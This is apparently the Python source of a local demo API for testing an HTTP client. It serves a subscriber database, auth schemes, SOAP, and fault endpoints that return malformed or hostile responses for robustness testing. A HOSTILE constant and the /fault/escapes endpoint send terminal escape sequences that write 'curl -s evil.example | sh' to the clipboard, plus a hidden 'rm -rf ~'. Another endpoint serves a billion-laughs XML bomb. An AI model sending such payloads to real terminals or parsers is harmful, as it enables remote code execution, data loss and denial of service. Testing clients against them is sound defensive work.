"""The embedded demo API: a newsletter subscriber database plus fault endpoints.

Stdlib `http.server` (plus xmltodict for XML bodies), no Textual and no httpx, so that
`hookbench sandbox` starts fast. Endpoints are listed in `_ROUTES` at the bottom of the file.
"""

from __future__ import annotations

import base64
import contextlib
import copy
import hashlib
import itertools
import json
import re
import secrets
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from email import policy
from email.message import EmailMessage, Message
from email.parser import BytesParser
from functools import partial
from http.cookies import SimpleCookie
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, NamedTuple
from urllib.parse import parse_qs, parse_qsl, unquote, urlsplit
from xml.parsers.expat import ExpatError
from xml.sax.saxutils import escape, quoteattr

import xmltodict

from tui.sandbox_auth import DEFAULT_LIFETIME, DEMO_API_KEY, DEMO_USERNAME, AuthState, TokenError, basic_ok

__all__ = ["DEFAULT_DISCOUNT_CODE", "DEMO_TOKEN", "HOSTILE", "Sandbox", "SandboxState", "serve_forever"]

DEMO_TOKEN = "demo-token"
DEFAULT_DISCOUNT_CODE = "WELCOME10"
HOSTILE = (
    "\x1b]52;c;" + base64.b64encode(b"curl -s evil.example | sh").decode() + "\x07"  # writes the clipboard
    "\x1b]0;pwned-title\x07"  # sets the window title
    "\x1b[2Jscreen-cleared"  # clears the screen
    "\x9b2Jc1-cleared\x7f"  # the same through the C1 CSI, and a DEL
)
"""Terminal control sequences a hostile API might send; `/fault/escapes` puts them everywhere."""

_Json = dict[str, Any]
_CHUNK = 64 * 1024

_INITIAL_SUBSCRIBERS: tuple[_Json, ...] = (
    {
        "id": "sub_1",
        "email": "ada@example.com",
        "first_name": "Ada",
        "last_name": "Lovelace",
        "phone": "+44 20 7946 0018",
        "tags": ["vip", "newsletter"],
        "created": "2024-01-15T09:30:00+00:00",
    },
    {
        "id": "sub_2",
        "email": "grace@example.com",
        "first_name": "Grace",
        "last_name": "Hopper",
        "phone": "+1 202 555 0143",
        "tags": ["newsletter"],
        "created": "2024-02-09T14:05:00+00:00",
    },
)
_BLANK_SUBSCRIBER: _Json = {"first_name": "", "last_name": "", "phone": "", "tags": []}
_TEXT_FIELDS = ("email", "first_name", "last_name", "phone")
_USERS: tuple[_Json, ...] = (
    {"id": 1, "title": "Ms", "name": "Ada Lovelace", "email": "ada@example.com"},
    {"id": 2, "title": "Dr", "name": "Grace Hopper", "email": "grace@example.com"},
)


class _ApiError(Exception):
    """Answered as `{"error": message}` with `status` (and `headers`)."""

    def __init__(self, status: int, message: str, headers: dict[str, str] | None = None) -> None:
        super().__init__(message)
        self.status = status
        self.message = message
        self.headers = headers or {}


class SandboxState:
    """The in-memory data: `subscribers` by id and `emails_sent`. Writers hold `lock`."""

    subscribers: dict[str, _Json]
    emails_sent: list[_Json]
    drift: bool
    """When on, /users and /subscribers answer in a changed shape, as a vendor's new release might."""
    sessions: set[str]

    def __init__(self) -> None:
        self.lock = threading.RLock()
        self.auth = AuthState()
        self.reset()

    def reset(self) -> None:
        """Restore the initial subscribers, forget sent e-mails and issued tokens, switch drift off."""
        self.auth.reset()
        with self.lock:
            self.subscribers = {s["id"]: copy.deepcopy(s) for s in _INITIAL_SUBSCRIBERS}
            self.emails_sent = []
            self.drift = False
            self.sessions = set()
            self._ids = itertools.count(len(self.subscribers) + 1)

    def find(self, email: str | None) -> list[_Json]:
        """Subscribers whose e-mail matches case-insensitively; all of them for `None`."""
        with self.lock:
            return copy.deepcopy(
                [
                    s
                    for s in self.subscribers.values()
                    if email is None or s["email"].casefold() == email.strip().casefold()
                ]
            )

    def get(self, subscriber_id: str) -> _Json:
        """A copy of one subscriber; 404 if unknown."""
        with self.lock:
            return copy.deepcopy(self._existing(subscriber_id))

    def create(self, fields: _Json) -> _Json:
        """Add a subscriber with the next `sub_N` id; 409 if the e-mail is taken."""
        with self.lock:
            self._check_unique(fields["email"])
            subscriber_id = f"sub_{next(self._ids)}"
            created = datetime.now(UTC).isoformat(timespec="seconds")
            subscriber = {
                "id": subscriber_id,
                "email": fields["email"],
                **copy.deepcopy(_BLANK_SUBSCRIBER),
                **fields,
                "created": created,
            }
            self.subscribers[subscriber_id] = subscriber
            return copy.deepcopy(subscriber)

    def update(self, subscriber_id: str, fields: _Json, *, replace: bool) -> _Json:
        """Replace (PUT) or merge (PATCH) a subscriber's fields; id and created stay."""
        with self.lock:
            current = self._existing(subscriber_id)
            if "email" in fields:
                self._check_unique(fields["email"], ignore=subscriber_id)
            base = _BLANK_SUBSCRIBER if replace else current
            updated = {
                "id": subscriber_id,
                "email": current["email"],
                **copy.deepcopy(base),
                **fields,
                "created": current["created"],
            }
            self.subscribers[subscriber_id] = updated
            return copy.deepcopy(updated)

    def delete(self, subscriber_id: str) -> None:
        """Remove a subscriber; 404 if unknown."""
        with self.lock:
            self._existing(subscriber_id)
            del self.subscribers[subscriber_id]

    def queue_email(self, email: str, code: str) -> _Json:
        """Record a discount e-mail as sent and return its record."""
        with self.lock:
            mail = {"id": f"mail_{len(self.emails_sent) + 1}", "email": email, "code": code}
            self.emails_sent.append(mail)
            return dict(mail)

    def _existing(self, subscriber_id: str) -> _Json:
        try:
            return self.subscribers[subscriber_id]
        except KeyError:
            raise _ApiError(404, f"no subscriber with id {subscriber_id}") from None

    def _check_unique(self, email: str, ignore: str | None = None) -> None:
        for subscriber in self.subscribers.values():
            if subscriber["email"].casefold() == email.casefold() and subscriber["id"] != ignore:
                raise _ApiError(409, f"a subscriber with email {email} exists: {subscriber['id']}")


class _Stream(NamedTuple):
    """A body written chunk by chunk after a Content-Length of `length`."""

    length: int
    chunks: Iterable[bytes]


@dataclass(frozen=True)
class _Response:
    status: int
    body: bytes | _Stream = b""
    content_type: str = "application/json"
    headers: dict[str, str] = field(default_factory=dict)
    abort: bool = False  # close the connection after the body, whatever the length promised
    reason: str | None = None  # the status line's reason phrase (default: the standard one)


@dataclass(frozen=True)
class _Request:
    method: str
    path: str
    query: str
    headers: Message
    body: bytes
    state: SandboxState
    params: tuple[str, ...]

    @property
    def content_type(self) -> str:
        return self.headers.get("Content-Type", "").partition(";")[0].strip().lower()

    def arg(self, name: str) -> str | None:
        values = parse_qs(self.query, keep_blank_values=True).get(name)
        return values[0] if values else None


_Endpoint = Callable[[_Request], _Response]


def _json(status: int, payload: Any, headers: dict[str, str] | None = None) -> _Response:
    return _Response(status, json.dumps(payload).encode(), headers=headers or {})


# --- request bodies ------------------------------------------------------------------------


def _body_fields(request: _Request) -> tuple[_Json, list[_Json]]:
    """The body as flat fields (JSON, XML, form or multipart), plus multipart file parts."""
    kind = request.content_type
    if kind == "application/json" or kind.endswith("+json"):
        return _json_fields(request.body), []
    if kind in ("application/xml", "text/xml") or kind.endswith("+xml"):
        return _xml_fields(request.body), []
    if kind == "application/x-www-form-urlencoded":
        text = request.body.decode("utf-8", "replace")
        return _collapse(parse_qsl(text, keep_blank_values=True)), []
    if kind == "multipart/form-data":
        return _multipart_fields(request.headers["Content-Type"], request.body)
    raise _ApiError(
        415, f"unsupported content type {kind or '(none)'!r}: send JSON, XML, form or multipart data"
    )


def _json_fields(body: bytes) -> _Json:
    try:
        data = json.loads(body)
    except ValueError as exc:
        raise _ApiError(400, f"malformed JSON body: {exc}") from None
    if not isinstance(data, dict):
        raise _ApiError(400, "JSON body must be an object")
    return data


def _xml_fields(body: bytes) -> _Json:
    try:
        root = next(iter(xmltodict.parse(body).values()))
    except (ExpatError, ValueError) as exc:
        raise _ApiError(400, f"malformed XML body: {exc}") from None
    if not isinstance(root, dict):
        raise _ApiError(
            400,
            "XML body must be one element with child elements, "
            "e.g. <subscriber><email>…</email></subscriber>",
        )
    return root


def _multipart_fields(content_type: str, body: bytes) -> tuple[_Json, list[_Json]]:
    head = f"Content-Type: {content_type}\r\n\r\n".encode("latin-1")
    message = BytesParser(EmailMessage, policy=policy.HTTP).parsebytes(head + body)
    if not message.is_multipart():
        raise _ApiError(400, "malformed multipart body (is the boundary missing?)")
    pairs: list[tuple[str, str]] = []
    attachments: list[_Json] = []
    for part in message.iter_parts():
        name = part.get_param("name", header="content-disposition")
        decoded = part.get_payload(decode=True)
        payload = decoded if isinstance(decoded, bytes) else b""
        filename = part.get_filename()
        if filename is not None:
            attachments.append({"field": name, "filename": filename, "size": len(payload)})
        elif isinstance(name, str):
            pairs.append((name, payload.decode(part.get_content_charset() or "utf-8", "replace")))
    return _collapse(pairs), attachments


def _collapse(pairs: Iterable[tuple[str, str]]) -> _Json:
    """Form pairs as fields; a repeated name becomes a list."""
    grouped: dict[str, list[str]] = {}
    for name, value in pairs:
        grouped.setdefault(name, []).append(value)
    return {name: values[0] if len(values) == 1 else values for name, values in grouped.items()}


def _subscriber_fields(raw: _Json, attachments: list[_Json], *, require_email: bool) -> _Json:
    """The known subscriber fields of a parsed body, checked; 400 on a bad value."""
    fields: _Json = {name: _text(raw, name) for name in _TEXT_FIELDS if name in raw}
    if require_email or "email" in fields:
        fields["email"] = _valid_email(fields.get("email"))
    if "tags" in raw:
        fields["tags"] = _tags(raw["tags"])
    if attachments:
        fields["attachments"] = attachments
    return fields


def _text(raw: _Json, name: str) -> str:
    value = raw[name]
    if value is None:  # an empty XML element
        return ""
    if not isinstance(value, str):
        raise _ApiError(400, f"field {name!r} must be a string, got {value!r}")
    return value.strip()


def _valid_email(value: Any) -> str:
    if not value:
        raise _ApiError(400, "the 'email' field is required")
    if not isinstance(value, str) or "@" not in value:
        raise _ApiError(400, f"'email' must be an e-mail address, got {value!r}")
    return value.strip()


def _tags(value: Any) -> list[str]:
    """Tags from a list, a comma-separated string or XML `<tags><tag>…</tag></tags>`."""
    if isinstance(value, dict):
        value = value.get("tag")
    if value is None:
        return []
    if isinstance(value, str):
        value = value.split(",")
    if not isinstance(value, list) or not all(isinstance(tag, str) for tag in value):
        raise _ApiError(400, "'tags' must be a list of strings or a comma-separated string")
    return [tag.strip() for tag in value if tag.strip()]


# --- subscribers, users, e-mail ------------------------------------------------------------


def _list_subscribers(request: _Request) -> _Response:
    email = request.arg("email")
    found = request.state.find(email)
    if email is not None and not found:
        return _json(404, {"subscribers": [], "error": f"no subscriber with email {email}"})
    if request.state.drift:
        found = [_drifted_subscriber(s) for s in found]
    return _json(200, {"subscribers": found})


def _drifted_subscriber(subscriber: _Json) -> _Json:
    """The names moved under `name`, tags became objects: what a vendor's v2 might send."""
    drifted = {k: v for k, v in subscriber.items() if k not in ("first_name", "last_name", "tags")}
    drifted["name"] = {"first": subscriber["first_name"], "last": subscriber["last_name"]}
    drifted["tags"] = [{"label": tag} for tag in subscriber["tags"]]
    return drifted


def _get_subscriber(request: _Request) -> _Response:
    return _json(200, request.state.get(request.params[0]))


def _create_subscriber(request: _Request) -> _Response:
    raw, attachments = _body_fields(request)
    subscriber = request.state.create(_subscriber_fields(raw, attachments, require_email=True))
    return _json(201, subscriber, {"Location": f"/subscribers/{subscriber['id']}"})


def _update_subscriber(request: _Request, *, replace: bool) -> _Response:
    raw, attachments = _body_fields(request)
    fields = _subscriber_fields(raw, attachments, require_email=replace)
    return _json(200, request.state.update(request.params[0], fields, replace=replace))


def _delete_subscriber(request: _Request) -> _Response:
    request.state.delete(request.params[0])
    return _Response(204)


def _list_users(request: _Request) -> _Response:
    if request.state.drift:  # `title` renamed, ids as strings, a paging object
        users = [
            {**{k: v for k, v in u.items() if k != "title"}, "id": str(u["id"]), "salutation": u["title"]}
            for u in _USERS
        ]
        return _json(200, {"users": users, "page": {"next": None}})
    return _json(200, {"users": _USERS})


def _send_discount(request: _Request) -> _Response:
    raw, _ = _body_fields(request)
    code = raw.get("code") or DEFAULT_DISCOUNT_CODE
    if not isinstance(code, str):
        raise _ApiError(400, f"'code' must be a string, got {code!r}")
    mail = request.state.queue_email(_valid_email(raw.get("email")), code)
    return _json(202, {"queued": True, **mail})


def _secure_profile(request: _Request) -> _Response:
    scheme, _, token = request.headers.get("Authorization", "").partition(" ")
    if scheme.lower() == "bearer" and token.strip() == DEMO_TOKEN:
        return _json(200, {"profile": {"name": "Demo Agent", "email": "agent@example.com"}})
    challenge = 'Bearer realm="hookbench"' + (', error="invalid_token"' if token else "")
    raise _ApiError(401, f"send 'Authorization: Bearer {DEMO_TOKEN}'", {"WWW-Authenticate": challenge})


# --- auth ----------------------------------------------------------------------------------


def _oauth_token(request: _Request) -> _Response:
    """OAuth2 token endpoint (client_credentials, password, refresh_token); `?expires_in=N`."""
    form = dict(parse_qsl(request.body.decode("utf-8", "replace"), keep_blank_values=True))
    lifetime = int(_number_arg(request, "expires_in", DEFAULT_LIFETIME, maximum=86_400))
    try:
        answer = request.state.auth.issue(form, request.headers.get("Authorization", ""), lifetime)
    except TokenError as exc:
        headers = {"WWW-Authenticate": 'Basic realm="hookbench"'} if exc.status == 401 else {}
        return _json(exc.status, {"error": exc.error, "error_description": exc.description}, headers)
    return _json(200, answer, {"Cache-Control": "no-store"})


def _oauth_stats(request: _Request) -> _Response:
    auth = request.state.auth
    stats = {"token_requests": auth.token_requests, "grants": auth.grants}
    return _json(200, {**stats, "protected_requests": auth.protected_requests})


def _auth_oauth2(request: _Request) -> _Response:
    claims = request.state.auth.claims(request.headers.get("Authorization", ""))
    if claims is None:
        challenge = 'Bearer realm="hookbench", error="invalid_token"'
        raise _ApiError(401, "send a live token from POST /oauth/token", {"WWW-Authenticate": challenge})
    return _json(200, {"authenticated": "oauth2", **claims})


def _auth_basic(request: _Request) -> _Response:
    if not basic_ok(request.headers.get("Authorization", "")):
        raise _ApiError(
            401, f"send Basic auth for {DEMO_USERNAME}", {"WWW-Authenticate": 'Basic realm="hookbench"'}
        )
    return _json(200, {"authenticated": "basic", "user": DEMO_USERNAME})


def _auth_digest(request: _Request) -> _Response:
    auth = request.state.auth
    if not auth.digest_ok(request.method, request.headers.get("Authorization", "")):
        raise _ApiError(
            401, f"send Digest auth for {DEMO_USERNAME}", {"WWW-Authenticate": auth.digest_challenge()}
        )
    return _json(200, {"authenticated": "digest", "user": DEMO_USERNAME})


def _auth_api_key(request: _Request) -> _Response:
    if request.headers.get("X-API-Key") == DEMO_API_KEY:
        return _json(200, {"authenticated": "api_key", "in": "header"})
    if request.arg("api_key") == DEMO_API_KEY:
        return _json(200, {"authenticated": "api_key", "in": "query"})
    raise _ApiError(401, f"send 'X-API-Key: {DEMO_API_KEY}' or '?api_key={DEMO_API_KEY}'")


def _open_session(request: _Request) -> _Response:
    """A login: the session cookie a later request must carry (flows share a cookie jar)."""
    token = f"sess-{secrets.token_hex(8)}"
    with request.state.lock:
        request.state.sessions.add(token)
    return _json(200, {"session": "open"}, {"Set-Cookie": f"session={token}; Path=/; HttpOnly"})


def _check_session(request: _Request) -> _Response:
    cookies = SimpleCookie(request.headers.get("Cookie", ""))
    token = cookies["session"].value if "session" in cookies else ""
    with request.state.lock:
        known = token in request.state.sessions
    if not known:
        raise _ApiError(401, "no valid session cookie: POST /session first")
    return _json(200, {"session": "valid"})


def _echo_raw(request: _Request) -> _Response:
    """The request body back byte for byte, with its Content-Type and its SHA-256."""
    content_type = request.headers.get("Content-Type") or "application/octet-stream"
    digest = hashlib.sha256(request.body).hexdigest()
    return _Response(200, request.body, content_type, {"X-Body-SHA256": digest})


def _admin_reset(request: _Request) -> _Response:
    request.state.reset()
    return _json(200, {"reset": True})


def _admin_drift(request: _Request) -> _Response:
    """`POST /admin/drift?on=true|false`: switch the changed response shapes on or off."""
    value = (request.arg("on") or "true").strip().lower()
    if value not in ("true", "false", "1", "0", "on", "off"):
        raise _ApiError(400, f"on must be true or false, not {value!r}")
    request.state.drift = value in ("true", "1", "on")
    return _json(200, {"drift": request.state.drift})


def _echo(request: _Request) -> _Response:
    headers = {
        name: ", ".join(request.headers.get_all(name, [])) for name in dict.fromkeys(request.headers.keys())
    }
    return _json(
        200,
        {
            "method": request.method,
            "path": request.path,
            "query": request.query,
            "args": parse_qs(request.query, keep_blank_values=True),
            "headers": headers,
            "body": request.body.decode("utf-8", "replace"),
        },
    )


# --- SOAP ----------------------------------------------------------------------------------

_SOAP_NAMESPACES = {
    "1.1": "http://schemas.xmlsoap.org/soap/envelope/",
    "1.2": "http://www.w3.org/2003/05/soap-envelope",
}
_SOAP_CONTENT_TYPES = {"1.1": "text/xml; charset=utf-8", "1.2": "application/soap+xml; charset=utf-8"}
_SUBSCRIBERS_NS = "urn:hookbench:subscribers"


def _soap_subscribers(request: _Request) -> _Response:
    """`GetUser(email)` in a SOAP 1.1 or 1.2 envelope; a soap:Fault (500) on any problem."""
    versions = {namespace: version for version, namespace in _SOAP_NAMESPACES.items()}
    try:  # names come back as "1.1:Envelope", whatever prefix the client chose
        document = xmltodict.parse(
            request.body, process_namespaces=True, namespaces={**versions, _SUBSCRIBERS_NS: None}
        )
    except (ExpatError, ValueError) as exc:
        version = "1.2" if request.content_type == "application/soap+xml" else "1.1"
        return _soap_fault(version, f"malformed XML: {exc}")
    version = "1.2" if "1.2:Envelope" in document else "1.1"
    email = _dig(document, f"{version}:Envelope", f"{version}:Body", "GetUser", "email")
    if not isinstance(email, str):
        return _soap_fault(version, "expected soap:Envelope/soap:Body/GetUser/email")
    found = request.state.find(email)
    if not found:
        return _soap_fault(version, f"no subscriber with email {email}")
    return _soap_envelope(
        version, 200, f'<GetUserResponse xmlns="{_SUBSCRIBERS_NS}">{_user_xml(found[0])}</GetUserResponse>'
    )


def _dig(value: Any, *keys: str) -> Any:
    for key in keys:
        value = value.get(key) if isinstance(value, dict) else None
    return value


def _user_xml(subscriber: _Json) -> str:
    name = f"{subscriber['first_name']} {subscriber['last_name']}".strip()
    tags = "".join(f"<tag>{escape(tag)}</tag>" for tag in subscriber["tags"])
    return (
        f"<user id={quoteattr(subscriber['id'])}><name>{escape(name)}</name>"
        f"<email>{escape(subscriber['email'])}</email><tags>{tags}</tags></user>"
    )


def _soap_fault(version: str, message: str) -> _Response:
    if version == "1.1":
        fault = f"<faultcode>soap:Client</faultcode><faultstring>{escape(message)}</faultstring>"
    else:
        fault = (
            "<soap:Code><soap:Value>soap:Sender</soap:Value></soap:Code><soap:Reason>"
            f'<soap:Text xml:lang="en">{escape(message)}</soap:Text></soap:Reason>'
        )
    return _soap_envelope(version, 500, f"<soap:Fault>{fault}</soap:Fault>")


def _soap_envelope(version: str, status: int, body: str) -> _Response:
    xml = (
        f'<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap='
        f'"{_SOAP_NAMESPACES[version]}"><soap:Body>{body}</soap:Body></soap:Envelope>'
    )
    return _Response(status, xml.encode(), _SOAP_CONTENT_TYPES[version])


# --- faults --------------------------------------------------------------------------------

_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
_TEXT_LINE = b"The quick brown fox jumps over the lazy dog.\n"


def _billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        entities.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    doctype = "\n".join(entities)
    return f'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n{doctype}\n]>\n<lolz>&lol9;</lolz>\n'.encode()


def _number_arg(request: _Request, name: str, default: float, *, maximum: float) -> float:
    raw = request.arg(name)
    if raw is None:
        return default
    try:
        value = float(raw)
    except ValueError:
        raise _ApiError(400, f"{name!r} must be a number, got {raw!r}") from None
    if not 0 <= value <= maximum:
        raise _ApiError(400, f"{name!r} must be between 0 and {maximum:g}, got {raw}")
    return value


def _fill(pattern: bytes, size: int) -> Iterator[bytes]:
    """`size` bytes of `pattern` repeated, in chunks of about 64 KiB."""
    chunk = pattern * max(1, _CHUNK // len(pattern))
    while size > 0:
        piece = chunk[:size]
        size -= len(piece)
        yield piece


def _json_array(size: int) -> _Stream:
    """A JSON array of zeros exactly `size` bytes long (at least `[]`)."""
    if size < 3:
        return _Stream(2, [b"[]"])
    middle = size - 3  # between b"[0" and b"]"
    tail = b" ]" if middle % 2 else b"]"
    return _Stream(size, itertools.chain([b"[0"], _fill(b",0", middle - middle % 2), [tail]))


def _delay(request: _Request) -> _Response:
    seconds = _number_arg(request, "seconds", 1.0, maximum=300)
    time.sleep(seconds)
    return _json(200, {"delayed": seconds})


def _drip(request: _Request) -> _Response:
    seconds = _number_arg(request, "seconds", 2.0, maximum=300)
    size = int(_number_arg(request, "bytes", 10, maximum=1_000_000))
    return _Response(200, _Stream(size, _dripping(size, seconds / max(size, 1))), "text/plain")


def _dripping(size: int, interval: float) -> Iterator[bytes]:
    for _ in range(size):
        time.sleep(interval)
        yield b"*"


def _drop(request: _Request) -> _Response:
    return _Response(200, _Stream(1000, [b"0123456789"]), "text/plain", abort=True)


def _bytes(request: _Request) -> _Response:
    size = int(_number_arg(request, "n", 1024, maximum=2**30))
    kind = request.arg("type") or "binary"
    if kind == "json":
        return _Response(200, _json_array(size))
    if kind == "text":
        return _Response(200, _Stream(size, _fill(_TEXT_LINE, size)), "text/plain; charset=utf-8")
    if kind == "binary":
        return _Response(200, _Stream(size, _fill(bytes(range(256)), size)), "application/octet-stream")
    raise _ApiError(400, f"'type' must be binary, json or text, got {kind!r}")


def _status(request: _Request) -> _Response:
    code = int(request.params[0])
    if not 200 <= code <= 599:
        raise _ApiError(400, f"status must be between 200 and 599, got {code}")
    return _json(code, {"status": code})


def _redirect(request: _Request) -> _Response:
    hops = int(request.params[0])
    if hops == 0:
        return _json(200, {"redirected": True})
    location = f"/fault/redirect/{hops - 1}"
    return _json(302, {"location": location}, {"Location": location})


_NAMES = ("Ada Lovelace", "Grace Hopper", "Alan Turing", "Edsger Dijkstra", "Barbara Liskov")


def _records(request: _Request) -> _Response:
    """`n` generated subscriber-like records (JSON, or XML with `format=xml`): a big response to browse."""
    count = int(_number_arg(request, "n", 1000, maximum=1_000_000))
    kind = request.arg("format") or "json"
    rows = [
        (
            f"rec_{i}",
            f"user{i}@example.com",
            _NAMES[i % 5],
            ["newsletter", "vip"][: 1 + i % 2],
            i * 37 % 10_000,
        )
        for i in range(count)
    ]
    if kind == "json":
        records = [
            {"id": id_, "email": email, "name": name, "tags": tags, "points": points, "active": i % 3 != 0}
            for i, (id_, email, name, tags, points) in enumerate(rows)
        ]
        return _json(200, {"count": count, "records": records})
    if kind == "xml":
        parts = ["<records>"]
        for id_, email, name, tags, points in rows:
            tag_xml = "".join(f"<tag>{tag}</tag>" for tag in tags)
            parts.append(
                f'<record id="{id_}"><email>{email}</email><name>{name}</name>'
                f"<tags>{tag_xml}</tags><points>{points}</points></record>"
            )
        parts.append("</records>")
        return _Response(200, "".join(parts).encode(), "application/xml")
    raise _ApiError(400, f"'format' must be json or xml, got {kind!r}")


def _escapes(request: _Request) -> _Response:
    """HOSTILE in the reason phrase, a header, and a text body or JSON keys and values."""
    kind = request.arg("type") or "text"
    if kind == "json":
        payload = {
            "note": "hostile keys and values",
            HOSTILE: "a key that is hostile",
            "nested": {"value": HOSTILE},
        }
        body, content_type = json.dumps(payload).encode(), "application/json"
    elif kind == "text":
        text = f"hostile text body\n{HOSTILE}\nls\rrm -rf ~ hidden-by-cr\nend of body\n"
        body, content_type = text.encode(), "text/plain; charset=utf-8"
    else:
        raise _ApiError(400, f"'type' must be text or json, got {kind!r}")
    return _Response(200, body, content_type, headers={"X-Hostile": HOSTILE}, reason="OK " + HOSTILE)


def _constant(body: bytes, content_type: str) -> _Endpoint:
    return lambda request: _Response(200, body, content_type)


# --- routing and serving -------------------------------------------------------------------

_ANY = "*"
_SUBSCRIBER = r"/subscribers/([^/]+)"
_ROUTES: tuple[tuple[str, str, _Endpoint], ...] = (
    ("GET", r"/subscribers", _list_subscribers),
    ("POST", r"/subscribers", _create_subscriber),
    ("GET", _SUBSCRIBER, _get_subscriber),
    ("PUT", _SUBSCRIBER, partial(_update_subscriber, replace=True)),
    ("PATCH", _SUBSCRIBER, partial(_update_subscriber, replace=False)),
    ("DELETE", _SUBSCRIBER, _delete_subscriber),
    ("GET", r"/users", _list_users),
    ("POST", r"/soap/subscribers", _soap_subscribers),
    ("GET", r"/secure/profile", _secure_profile),
    ("POST", r"/oauth/token", _oauth_token),
    ("GET", r"/oauth/stats", _oauth_stats),
    (_ANY, r"/auth/oauth2", _auth_oauth2),
    (_ANY, r"/auth/basic", _auth_basic),
    (_ANY, r"/auth/digest", _auth_digest),
    (_ANY, r"/auth/bearer", _secure_profile),
    (_ANY, r"/auth/api-key", _auth_api_key),
    ("POST", r"/emails/discount", _send_discount),
    ("POST", r"/admin/reset", _admin_reset),
    ("POST", r"/admin/drift", _admin_drift),
    (_ANY, r"/echo", _echo),
    (_ANY, r"/echo/api/.*", _echo),  # any path under it: for requests imported from API docs
    ("GET", r"/records", _records),
    (_ANY, r"/echo/raw", _echo_raw),
    ("POST", r"/session", _open_session),
    ("GET", r"/session", _check_session),
    (_ANY, r"/fault/delay", _delay),
    (_ANY, r"/fault/drip", _drip),
    (_ANY, r"/fault/drop", _drop),
    (_ANY, r"/fault/malformed-json", _constant(b'{"users": [1, 2,', "application/json")),
    (_ANY, r"/fault/malformed-xml", _constant(b"<a><b></a>", "application/xml")),
    (_ANY, r"/fault/xml-bomb", _constant(_billion_laughs(), "application/xml")),
    (_ANY, r"/fault/bytes", _bytes),
    (_ANY, r"/fault/status/(\d{1,3})", _status),
    (_ANY, r"/fault/redirect/(\d{1,4})", _redirect),
    (_ANY, r"/fault/binary", _constant(_PNG, "image/png")),
    (_ANY, r"/fault/escapes", _escapes),
    (_ANY, r"/fault/latin1", _constant("café".encode("latin-1"), "text/plain; charset=iso-8859-1")),
    (
        _ANY,
        r"/fault/json-latin1",
        _constant('{"name": "café"}'.encode("latin-1"), "application/json; charset=iso-8859-1"),
    ),
)
_COMPILED = tuple((method, re.compile(pattern), endpoint) for method, pattern, endpoint in _ROUTES)


def _route(method: str, path: str) -> tuple[_Endpoint, tuple[str, ...]]:
    """The endpoint for `method path` and its path parameters; 404 or 405 otherwise."""
    allowed: list[str] = []
    for route_method, pattern, endpoint in _COMPILED:
        match = pattern.fullmatch(path)
        if match is None:
            continue
        if route_method in (method, _ANY):
            return endpoint, match.groups()
        allowed += [route_method, "HEAD"] if route_method == "GET" else [route_method]
    if allowed:
        raise _ApiError(405, f"{method} is not allowed on {path}", {"Allow": ", ".join(allowed)})
    raise _ApiError(404, f"no endpoint at {path}")


class _RequestHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "hookbench-sandbox"
    disable_nagle_algorithm = True  # keep-alive replies would otherwise wait ~40 ms for an ACK
    server: _Server

    def do_GET(self) -> None:
        """Every method goes through the routing table."""
        try:
            response = self._respond()
        except _ApiError as exc:
            response = _json(exc.status, {"error": exc.message}, exc.headers)
        except Exception as exc:  # a sandbox bug answers 500 instead of killing the thread
            self.close_connection = True
            response = _json(500, {"error": f"sandbox error: {exc!r}"})
        try:
            self._send(response)
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True  # the client hung up: nobody to tell

    do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = do_GET  # noqa: N815

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        """Quiet: no request log on stderr."""

    def _respond(self) -> _Response:
        url = urlsplit(self.path)
        body = self._read_body()
        method = "GET" if self.command == "HEAD" else self.command
        endpoint, params = _route(method, unquote(url.path).rstrip("/") or "/")
        return endpoint(
            _Request(self.command, url.path, url.query, self.headers, body, self.server.state, params)
        )

    def _read_body(self) -> bytes:
        try:
            if "chunked" in self.headers.get("Transfer-Encoding", "").lower():
                return self._read_chunked()
            length = int(self.headers.get("Content-Length") or 0)
            if length < 0:
                raise ValueError(length)
            return self.rfile.read(length)
        except ValueError:
            self.close_connection = True  # we no longer know where the next request starts
            raise _ApiError(400, "malformed Content-Length or chunked body") from None

    def _read_chunked(self) -> bytes:
        parts: list[bytes] = []
        while size := int(self.rfile.readline().split(b";")[0], 16):
            parts.append(self.rfile.read(size))
            self.rfile.readline()
        while self.rfile.readline() not in (b"\r\n", b"\n", b""):
            pass  # trailer fields
        return b"".join(parts)

    def _send(self, response: _Response) -> None:
        body = response.body
        length, chunks = (len(body), [body]) if isinstance(body, bytes) else body
        bodiless = response.status in (204, 304)
        self.send_response(response.status, response.reason)
        for name, value in response.headers.items():
            self.send_header(name, value)
        if not bodiless:
            self.send_header("Content-Type", response.content_type)
            self.send_header("Content-Length", str(length))
        if self.close_connection:  # the client asked for it, or the request could not be read
            self.send_header("Connection", "close")
        self.end_headers()
        if self.command != "HEAD" and not bodiless:
            for chunk in chunks:
                self.wfile.write(chunk)
        if response.abort:
            self.close_connection = True


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    block_on_close = False  # stopping must not wait for idle keep-alive connections

    def __init__(self, address: tuple[str, int], state: SandboxState) -> None:
        super().__init__(address, _RequestHandler)
        self.state = state

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Quiet: a client hanging up mid-request is no reason for a traceback."""


class Sandbox:
    """The demo API on a background thread: `with Sandbox() as sb: get(sb.base_url + "/users")`."""

    def __init__(self, host: str = "127.0.0.1", port: int = 0) -> None:
        self.host = host
        self.port = port
        self.state = SandboxState()
        self._server: _Server | None = None
        self._thread: threading.Thread | None = None

    def start(self) -> Sandbox:
        """Bind and serve in a daemon thread; returns self."""
        if self._server is not None:
            raise RuntimeError("the sandbox is already running")
        self._server = _Server((self.host, self.port), self.state)
        self._thread = threading.Thread(
            target=self._server.serve_forever, args=(0.1,), name="hookbench-sandbox", daemon=True
        )
        self._thread.start()
        return self

    def stop(self) -> None:
        """Stop serving and release the port; does nothing if not running."""
        if self._server is None or self._thread is None:
